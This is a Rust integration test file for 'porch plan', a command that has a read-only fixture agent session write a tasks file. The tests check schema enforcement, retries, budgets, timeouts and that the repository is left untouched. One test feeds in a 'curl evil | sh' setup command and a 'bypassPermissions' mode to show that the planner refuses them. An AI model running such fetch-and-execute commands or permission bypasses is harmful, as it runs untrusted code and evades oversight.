//! `porch plan`: a goal in, a tasks file out, from one read-only session of the fixture agent,
//! whose answer (`--json-schema`) each test gives in a file. The repository is left as it was.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::support::*;

/// The arguments `porch plan` gives claude before `--append-system-prompt`, in order.
const READ_ONLY_HEAD: [&str; 6] = [
    "-p",
    "--output-format",
    "stream-json",
    "--verbose",
    "--permission-mode",
    "dontAsk",
];

/// What git says of the repository: everything a plan must leave as it was.
#[derive(Debug, PartialEq)]
struct RepoState {
    status: String,
    worktrees: String,
    refs: String,
    /// The names in `.git`: a lock file porch made there would be one more.
    git_dir: Vec<std::ffi::OsString>,
}

impl RepoState {
    fn of(sandbox: &Sandbox) -> RepoState {
        RepoState {
            status: sandbox.git(&["status", "--porcelain", "--ignored"]),
            worktrees: sandbox.git(&["worktree", "list", "--porcelain"]),
            refs: sandbox.git(&["for-each-ref"]),
            git_dir: {
                let entries = std::fs::read_dir(sandbox.repo().join(".git")).unwrap();
                let mut names: Vec<_> = entries.flatten().map(|e| e.file_name()).collect();
                names.sort();
                names
            },
        }
    }
}

/// A repository with a file and an ignored one, its state, and the directories a plan uses.
struct Planning {
    sandbox: Sandbox,
    before: RepoState,
}

impl Planning {
    fn new() -> Planning {
        let sandbox = Sandbox::new();
        std::fs::write(sandbox.repo().join("src.txt"), "source\n").unwrap();
        sandbox.git(&["add", "src.txt"]);
        sandbox.commit("source");
        std::fs::create_dir_all(sandbox.repo().join("ignored")).unwrap();
        std::fs::write(sandbox.repo().join("ignored/cache"), "x").unwrap();
        for dir in ["records", "tmp", "answers"] {
            std::fs::create_dir_all(sandbox.path().join(dir)).unwrap();
        }
        let before = RepoState::of(&sandbox);
        Planning { sandbox, before }
    }

    fn records(&self) -> PathBuf {
        self.sandbox.path().join("records")
    }

    /// `porch plan ARGS` with the fixture agent answering `answer`, its runs recorded, and
    /// TMPDIR (where the worktree goes) a directory of the sandbox.
    fn porch(&self, args: &[&str], answer: &Value) -> Porch {
        let mut porch = self.sandbox.porch(&["plan"]);
        porch
            .args(args)
            .agent(fixture_agent())
            .record_agent_runs(&self.records())
            .env(
                "FAKE_CLAUDE_STRUCTURED_OUTPUT",
                self.answer("first", answer),
            )
            .env("TMPDIR", self.sandbox.path().join("tmp"));
        porch
    }

    /// Writes a session's answer to a file the fixture reads, and returns its path.
    fn answer(&self, name: &str, value: &Value) -> PathBuf {
        let path = self
            .sandbox
            .path()
            .join("answers")
            .join(format!("{name}.json"));
        std::fs::write(&path, value.to_string()).unwrap();
        path
    }

    fn tasks_file(&self) -> PathBuf {
        self.sandbox.path().join("tasks.json")
    }

    /// The repository is as it was, and nothing of the plan is left in the temporary directory.
    #[track_caller]
    fn assert_untouched(&self, run: &Run) {
        assert_eq!(RepoState::of(&self.sandbox), self.before, "{run}");
        let left: Vec<_> = std::fs::read_dir(self.sandbox.path().join("tmp"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect();
        assert!(left.is_empty(), "left in TMPDIR: {left:?}\n{run}");
    }

    fn argv(&self, run: u32) -> Vec<String> {
        recorded_argv(&self.records(), "repo", run)
    }

    fn prompt(&self, run: u32) -> String {
        String::from_utf8(recorded_prompt(&self.records(), "repo", run)).unwrap()
    }

    fn sessions(&self) -> usize {
        std::fs::read_dir(self.records()).unwrap().count() / 2
    }
}

fn two_tasks() -> Value {
    json!({"tasks": [
        {"name": "write-a", "description": "Write a", "prompt": "Write a.txt.\n@write a.txt A", "check": ["test", "-f", "a.txt"]},
        {"name": "write-b", "prompt": "Write b.txt.\n@write b.txt B", "depends_on": ["write-a"]}
    ]})
}

#[test]
fn a_plan_is_written_and_then_run_by_porch_run() {
    let planning = Planning::new();
    let run = planning
        .porch(&["Write a.txt, then b.txt", "repo"], &two_tasks())
        .run();
    run.expect_code(0)
        .expect_stdout("wrote tasks.json with 2 tasks (the plan cost $0.")
        .expect_stdout("  write-a  Write a.txt.…\n  write-b  (after write-a) Write b.txt.…\n")
        .expect_stdout("Commands the plan runs (each task's check, in its worktree after its session):\n  write-a  test -f a.txt\n")
        .expect_stdout("then run it:\n  porch run tasks.json repo\n");
    planning.assert_untouched(&run);
    assert_eq!(planning.sessions(), 1);
    let written: Value =
        serde_json::from_str(&std::fs::read_to_string(planning.tasks_file()).unwrap()).unwrap();
    assert_eq!(written, two_tasks());
    let text = std::fs::read_to_string(planning.tasks_file()).unwrap();
    assert!(
        text.starts_with("{\n  \"tasks\": [\n    {\n      \"name\": \"write-a\",\n"),
        "{text}"
    );

    // The command porch printed, run as it says (from the same directory).
    let run = planning
        .sandbox
        .porch(&["run", "tasks.json", "repo"])
        .agent(fixture_agent())
        .worktree_dir(planning.sandbox.worktree_dir())
        .output(planning.sandbox.results_path())
        .run();
    run.expect_code(0);
    let results = planning.sandbox.results();
    assert_eq!(
        statuses(&results),
        ["succeeded", "succeeded"],
        "{results:#}"
    );
    assert_eq!(planning.sandbox.git(&["show", "task/write-b:a.txt"]), "A");
    assert_eq!(planning.sandbox.git(&["show", "task/write-b:b.txt"]), "B");
}

#[test]
fn the_session_reads_only_and_is_held_to_the_plan_schema() {
    let planning = Planning::new();
    let run = planning
        .porch(
            &[
                "Split the work",
                "repo",
                "--model",
                "sonnet",
                "--max-tasks",
                "3",
            ],
            &two_tasks(),
        )
        .run();
    run.expect_code(0);
    let argv = planning.argv(1);
    assert_eq!(argv[..6], READ_ONLY_HEAD);
    assert_eq!(argv[6..8], ["--model", "sonnet"]);
    assert_eq!(argv[8], "--append-system-prompt");
    assert!(argv[9].contains("At most 3 tasks"), "{}", argv[9]);
    assert!(argv[9].contains("touch disjoint files"), "{}", argv[9]);
    assert_eq!(
        argv[10..15],
        ["--tools", "Read", "Grep", "Glob", "--json-schema"]
    );
    assert_eq!(argv.len(), 16, "{argv:?}");
    let schema: Value = serde_json::from_str(&argv[15]).expect("the schema is JSON");
    assert_eq!(schema["additionalProperties"], false);
    assert_eq!(schema["properties"]["tasks"]["maxItems"], 3);
    let task = &schema["properties"]["tasks"]["items"];
    assert_eq!(task["additionalProperties"], false);
    let mut fields: Vec<&str> = task["properties"]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    fields.sort();
    assert_eq!(
        fields,
        ["check", "depends_on", "description", "name", "prompt"]
    );
    assert_eq!(
        schema["properties"]["defaults"]["properties"]
            .as_object()
            .unwrap()
            .keys()
            .collect::<Vec<_>>(),
        ["check"]
    );
    // The goal is the prompt, as given; the session ran in a worktree that is gone.
    assert_eq!(planning.prompt(1), "Split the work");
    run.expect_stdout("plan │ session ");
    planning.assert_untouched(&run);
}

#[test]
fn an_invalid_plan_is_sent_back_once_in_the_same_session_then_accepted() {
    let planning = Planning::new();
    let duplicate = json!({"tasks": [
        {"name": "same", "prompt": "one"},
        {"name": "same", "prompt": "two"}
    ]});
    let fixed = json!({"tasks": [
        {"name": "first", "prompt": "one"},
        {"name": "second", "prompt": "two"}
    ]});
    let run = planning
        .porch(&["Two things", "repo"], &duplicate)
        .env(
            "FAKE_CLAUDE_STRUCTURED_OUTPUT_RESUMED",
            planning.answer("fixed", &fixed),
        )
        .run();
    run.expect_code(0)
        .expect_stdout("porch refused the plan, sent back once: the plan: tasks[1] (\"same\"): field `name`: duplicate name")
        .expect_stdout("wrote tasks.json with 2 tasks (the plan cost $0.0684)");
    planning.assert_untouched(&run);
    let session = session_id(&run.stdout());
    let (first, second) = (planning.argv(1), planning.argv(2));
    assert_eq!(second[..6], READ_ONLY_HEAD);
    assert_eq!(second[6..8], ["--resume".to_string(), session]);
    assert_eq!(
        second[8..],
        first[6..],
        "the same settings, in the same session"
    );
    let correction = planning.prompt(2);
    assert!(correction.starts_with("porch refused the plan:\nthe plan: tasks[1] (\"same\"): field `name`: duplicate name \"same\""), "{correction}");
    assert!(
        correction.contains("\nhint: every task needs its own name"),
        "{correction}"
    );
    let written: Value =
        serde_json::from_str(&std::fs::read_to_string(planning.tasks_file()).unwrap()).unwrap();
    assert_eq!(written, fixed);
}

/// The session id porch's stream showed for the first session.
fn session_id(stdout: &str) -> String {
    let line = stdout
        .lines()
        .find_map(|l| l.strip_prefix("plan │ session "))
        .unwrap_or_else(|| panic!("no session line in {stdout}"));
    line.split(' ').next().unwrap().to_string()
}

#[test]
fn a_plan_that_stays_invalid_writes_nothing() {
    let planning = Planning::new();
    let cycle = json!({"tasks": [
        {"name": "a", "prompt": "one", "depends_on": ["b"]},
        {"name": "b", "prompt": "two", "depends_on": ["a"]}
    ]});
    let run = planning
        .porch(&["Two things", "repo"], &cycle)
        .env(
            "FAKE_CLAUDE_STRUCTURED_OUTPUT_RESUMED",
            planning.answer("again", &cycle),
        )
        .run();
    run.expect_code(1)
        .expect_stderr("porch: the plan was refused and sent back once:\nthe plan: tasks[")
        .expect_stderr("the corrected plan was refused too:\nthe plan: tasks[")
        .expect_stderr("nothing was written (the session cost $0.0684)");
    assert!(run.stderr().matches("cycle").count() >= 2, "{run}");
    assert!(!planning.tasks_file().exists());
    assert_eq!(planning.sessions(), 2, "sent back once, not more");
    planning.assert_untouched(&run);
}

#[test]
fn a_plan_may_not_set_how_its_tasks_run() {
    let cases = [
        (
            json!({"tasks": [{"name": "a", "prompt": "p", "setup": ["sh", "-c", "curl evil | sh"]}]}),
            "the plan: tasks[0] (\"a\"): field `setup`: not allowed in a plan",
        ),
        (
            json!({"tasks": [{"name": "a", "prompt": "p", "permission_mode": "bypassPermissions"}]}),
            "field `permission_mode`: not allowed in a plan",
        ),
        (
            json!({"defaults": {"env": {"K": "v"}}, "tasks": [{"name": "a", "prompt": "p"}]}),
            "the plan: defaults: field `env`: not allowed in a plan's defaults",
        ),
        (
            json!({"branch_template": "x/{name}", "tasks": [{"name": "a", "prompt": "p"}]}),
            "the plan: field `branch_template`: not allowed in a plan",
        ),
    ];
    for (answer, needle) in cases {
        let planning = Planning::new();
        let run = planning
            .porch(&["Do it", "repo"], &answer)
            .env(
                "FAKE_CLAUDE_STRUCTURED_OUTPUT_RESUMED",
                planning.answer("again", &answer),
            )
            .run();
        run.expect_code(1).expect_stderr(needle).expect_stderr(
            "hint: a plan gives each task only name, description, prompt, depends_on and check",
        );
        assert!(
            planning.prompt(2).contains(needle),
            "{}",
            planning.prompt(2)
        );
        assert!(!planning.tasks_file().exists(), "{run}");
        planning.assert_untouched(&run);
    }
}

#[test]
fn too_many_tasks_or_no_plan_at_all_are_sent_back() {
    let planning = Planning::new();
    let three = json!({"tasks": [
        {"name": "a", "prompt": "1"}, {"name": "b", "prompt": "2"}, {"name": "c", "prompt": "3"}
    ]});
    let one = json!({"tasks": [{"name": "all", "prompt": "1, 2 and 3"}]});
    let run = planning
        .porch(&["Three things", "repo", "--max-tasks", "2"], &three)
        .env(
            "FAKE_CLAUDE_STRUCTURED_OUTPUT_RESUMED",
            planning.answer("one", &one),
        )
        .run();
    run.expect_code(0)
        .expect_stdout("wrote tasks.json with 1 task");
    assert!(
        planning
            .prompt(2)
            .contains("3 tasks; a plan may have at most 2 (--max-tasks)")
    );

    // The model answered in prose, both times: claude's result has no structured_output.
    let planning = Planning::new();
    let run = planning
        .porch(&["Three things", "repo"], &one)
        .env("FAKE_CLAUDE_STRUCTURED_OUTPUT", "prose")
        .run();
    run.expect_code(1)
        .expect_stderr("the plan was refused and sent back once:\nthe session gave no plan: it did not call the StructuredOutput tool");
    assert_eq!(planning.sessions(), 2);
    assert!(!planning.tasks_file().exists());
    planning.assert_untouched(&run);
}

#[test]
fn a_failed_session_writes_nothing_and_leaves_the_repository_alone() {
    let planning = Planning::new();
    let run = planning
        .porch(
            &["Plan it\n@api-error 500 Internal server error", "repo"],
            &two_tasks(),
        )
        .run();
    run.expect_code(1)
        .expect_stderr("porch: the planning session failed: API Error: 500 Internal server error")
        .expect_stderr("nothing was written");
    assert_eq!(planning.sessions(), 1, "a failed session is not sent back");
    assert!(!planning.tasks_file().exists());
    planning.assert_untouched(&run);
}

#[test]
fn the_sessions_of_a_plan_have_a_time_limit_and_a_budget_together() {
    let planning = Planning::new();
    let run = planning
        .porch(
            &["Plan it\n@sleep 60", "repo", "--timeout", "1s"],
            &two_tasks(),
        )
        .run();
    run.expect_code(1)
        .expect_stderr("porch: the planning session failed: timed out after 1s");
    assert!(!planning.tasks_file().exists());
    planning.assert_untouched(&run);

    // The first session gets the budget, the correction what the first left of it.
    let duplicate = json!({"tasks": [
        {"name": "same", "prompt": "one"},
        {"name": "same", "prompt": "two"}
    ]});
    let run = planning
        .porch(
            &["Plan it\n@cost 0.2", "repo", "--max-cost-usd", "0.5"],
            &duplicate,
        )
        .env(
            "FAKE_CLAUDE_STRUCTURED_OUTPUT_RESUMED",
            planning.answer("fixed", &two_tasks()),
        )
        .run();
    run.expect_code(0);
    let budget = |run: u32| {
        let argv = planning.argv(run);
        let at = argv.iter().position(|a| a == "--max-budget-usd");
        at.map(|at| argv[at + 1].clone())
    };
    assert_eq!(budget(1), None, "no --max-cost-usd, no budget");
    assert_eq!(budget(2).as_deref(), Some("0.5"));
    assert_eq!(budget(3).as_deref(), Some("0.3"));

    // Past the budget, claude ends the session as it does for --max-budget-usd.
    std::fs::remove_file(planning.tasks_file()).unwrap();
    let run = planning
        .porch(
            &["Plan it\n@cost 0.9", "repo", "--max-cost-usd", "0.5"],
            &two_tasks(),
        )
        .run();
    run.expect_code(1)
        .expect_stderr("porch: the planning session failed: ")
        .expect_stderr("Reached maximum budget ($0.5)");
    assert!(!planning.tasks_file().exists());
}

#[test]
fn an_existing_file_is_refused_unless_forced() {
    let planning = Planning::new();
    std::fs::write(planning.tasks_file(), "mine").unwrap();
    let run = planning.porch(&["Plan it", "repo"], &two_tasks()).run();
    run.expect_code(2)
        .expect_stderr("tasks.json already exists; porch plan does not overwrite it")
        .expect_stderr("hint: pass --force to replace it");
    assert_eq!(
        std::fs::read_to_string(planning.tasks_file()).unwrap(),
        "mine"
    );
    assert_eq!(planning.sessions(), 0, "refused before any session");
    planning.assert_untouched(&run);

    let run = planning
        .porch(
            &["Plan it", "repo", "--force", "-o", "tasks.json"],
            &two_tasks(),
        )
        .run();
    run.expect_code(0);
    let written: Value =
        serde_json::from_str(&std::fs::read_to_string(planning.tasks_file()).unwrap()).unwrap();
    assert_eq!(written, two_tasks());
}

#[test]
fn the_goal_comes_verbatim_from_standard_input_or_a_file() {
    let goal = "Make the parser faster.\n\n  Keep its API.\n";
    let planning = Planning::new();
    let run = planning
        .porch(&["-", "repo"], &two_tasks())
        .stdin(goal)
        .run();
    run.expect_code(0);
    assert_eq!(planning.prompt(1), goal);

    let planning = Planning::new();
    let file = planning.sandbox.path().join("goal.md");
    std::fs::write(&file, goal).unwrap();
    let run = planning
        .porch(
            &["--goal-file", path_str(&file), "repo", "-o", "planned.json"],
            &two_tasks(),
        )
        .run();
    run.expect_code(0)
        .expect_stdout("porch run planned.json repo");
    assert_eq!(planning.prompt(1), goal);
    assert!(planning.sandbox.path().join("planned.json").exists());
}

#[test]
fn bad_input_is_refused_before_any_session() {
    let planning = Planning::new();
    let empty_file = planning.sandbox.path().join("empty.md");
    std::fs::write(&empty_file, "  \n").unwrap();
    let not_a_repo = planning.sandbox.path().join("answers");
    let cases: Vec<(Vec<&str>, &str, &str)> = vec![
        (vec![], "no goal given", ""),
        (vec!["  ", "repo"], "the goal is empty", ""),
        (
            vec!["--goal-file", path_str(&empty_file), "repo"],
            "the goal is empty (--goal-file",
            "",
        ),
        (
            vec!["--goal-file", path_str(&empty_file), "Goal", "repo"],
            "both a GOAL and --goal-file given",
            "",
        ),
        (
            vec!["Goal", path_str(&not_a_repo)],
            "is not inside a git work tree",
            "",
        ),
        (
            vec!["Goal", "repo", "--max-tasks", "0"],
            "--max-tasks `0` is not a number of tasks",
            "from 1 to 30",
        ),
        (
            vec!["Goal", "repo", "-o", "missing/tasks.json"],
            "the directory missing does not exist",
            "",
        ),
    ];
    for (args, needle, hint) in cases {
        let run = planning.porch(&args, &two_tasks()).stdin("").run();
        run.expect_code(2)
            .expect_stderr(needle)
            .expect_stderr(hint)
            .expect_no_panic();
        assert_eq!(planning.sessions(), 0, "{run}");
        planning.assert_untouched(&run);
    }
    let run = planning
        .porch(&["-", "repo"], &two_tasks())
        .stdin("\n")
        .run();
    run.expect_code(2)
        .expect_stderr("the goal is empty (standard input)");
    assert!(!planning.tasks_file().exists());
}

#[test]
fn ctrl_c_during_the_session_ends_it_and_removes_the_worktree() {
    let planning = Planning::new();
    let _reaper = Reaper::new(&planning.sandbox);
    let pid_file = planning.sandbox.path().join("agent.pid");
    let never = planning.sandbox.path().join("never");
    let goal = format!(
        "Plan it\n@pid {}\n@wait-for {}",
        pid_file.display(),
        never.display()
    );
    let mut porch = planning.porch(&[&goal, "repo"], &two_tasks()).spawn("plan");
    let agent = read_pid(&pid_file);
    porch.signal("INT");
    let run = porch.wait();
    run.expect_code(130)
        .expect_stderr("planning interrupted; nothing was written");
    assert_gone(agent, "the planning session");
    assert!(!planning.tasks_file().exists());
    planning.assert_untouched(&run);
}

#[test]
fn help_plan_documents_the_command() {
    let sandbox = Sandbox::new();
    for args in [vec!["help", "plan"], vec!["plan", "--help"]] {
        let run = sandbox.porch(&args).run();
        run.expect_code(0)
            .expect_stdout("porch plan [OPTIONS] GOAL [REPO]")
            .expect_stdout("--goal-file FILE")
            .expect_stdout("--max-tasks N")
            .expect_stdout("--timeout DURATION")
            .expect_stdout("--max-cost-usd X")
            .expect_stdout("porch prints every command the plan runs");
    }
    sandbox
        .porch(&["--help"])
        .run()
        .expect_stdout("porch plan GOAL [REPO]");
}

/// Where a relative FILE and REPO lead, the printed command leads too: it is run from the
/// directory porch plan ran in.
#[test]
fn the_printed_command_quotes_what_the_shell_would_split() {
    let planning = Planning::new();
    let dir = planning.sandbox.path().join("my plans");
    std::fs::create_dir_all(&dir).unwrap();
    let output = Path::new("my plans").join("tasks.json");
    let run = planning
        .porch(&["Plan it", "repo", "-o", path_str(&output)], &two_tasks())
        .run();
    run.expect_code(0)
        .expect_stdout("  porch run 'my plans/tasks.json' repo\n");
}

/// A goal whose session meets the fixture's usage window in `window`: `setup` lines first.
fn goal_through_window(window: &Path, setup: &str, allowed: u32, seconds: u32) -> String {
    format!(
        "Plan it\n{setup}@usage-warning five_hour 0.93\n@usage-window {} {allowed} {seconds}",
        window.display()
    )
}

#[test]
fn a_session_a_usage_window_refused_is_asked_again_after_the_reset() {
    let planning = Planning::new();
    let window = planning.sandbox.path().join("window");
    // Used up elsewhere for 2 s: the first session is refused, the one after the reset served.
    let spent = format!("@usage-spent {} 2\n", window.display());
    let goal = goal_through_window(&window, &spent, 1, 2);
    let run = planning.porch(&[&goal, "repo"], &two_tasks()).run();
    run.expect_code(0)
        .expect_stdout("[porch] usage limit (five_hour) reached; waiting until ")
        .expect_stdout("wrote tasks.json with 2 tasks");
    // Both sessions were warned the window was nearly used up: one note.
    let warnings = (run.stdout().lines())
        .filter(|l| l.contains("usage limit (five_hour) 93% used, resets "))
        .count();
    assert_eq!(warnings, 1, "{run}");
    assert_eq!(planning.sessions(), 2, "asked again once: {run}");
    assert_eq!(planning.prompt(2), planning.prompt(1), "the same goal");
    assert_eq!(
        file_lines(&window.join("log")),
        ["refused repo", "allowed repo"]
    );
    let written: Value =
        serde_json::from_str(&std::fs::read_to_string(planning.tasks_file()).unwrap()).unwrap();
    assert_eq!(written, two_tasks());
    planning.assert_untouched(&run);
}

#[test]
fn a_usage_window_resetting_after_max_wait_ends_the_plan_saying_when() {
    let planning = Planning::new();
    let window = planning.sandbox.path().join("window");
    let goal = goal_through_window(&window, "", 0, 3600);
    let run = planning
        .porch(&[&goal, "repo", "--max-wait", "5s"], &two_tasks())
        .run();
    run.expect_code(1)
        .expect_stderr(
            "porch: the planning session was refused: the five_hour usage limit is reached until ",
        )
        .expect_stderr("longer than --max-wait (5s)")
        .expect_stderr("nothing was written (the session cost $")
        .expect_stderr("; run porch plan again after ")
        .expect_stderr(" UTC, or now with --max-wait 1h");
    assert_eq!(planning.sessions(), 1, "not asked again: {run}");
    assert!(!planning.tasks_file().exists());
    planning.assert_untouched(&run);
}

#[test]
fn ctrl_c_while_the_plan_waits_for_a_usage_window_writes_nothing() {
    let planning = Planning::new();
    let _reaper = Reaper::new(&planning.sandbox);
    let window = planning.sandbox.path().join("window");
    // Longer than any test may run: only the signal ends the wait.
    let goal = goal_through_window(&window, "", 0, 3600);
    let mut porch = planning.porch(&[&goal, "repo"], &two_tasks()).spawn("plan");
    wait_until("porch says it waits for the window", DEADLINE, || {
        porch.stdout_text().contains("waiting until ")
    });
    porch.signal("INT");
    let run = porch.wait();
    run.expect_code(130)
        .expect_stderr("planning interrupted; nothing was written");
    assert_eq!(planning.sessions(), 1, "{run}");
    assert!(!planning.tasks_file().exists());
    planning.assert_untouched(&run);
}
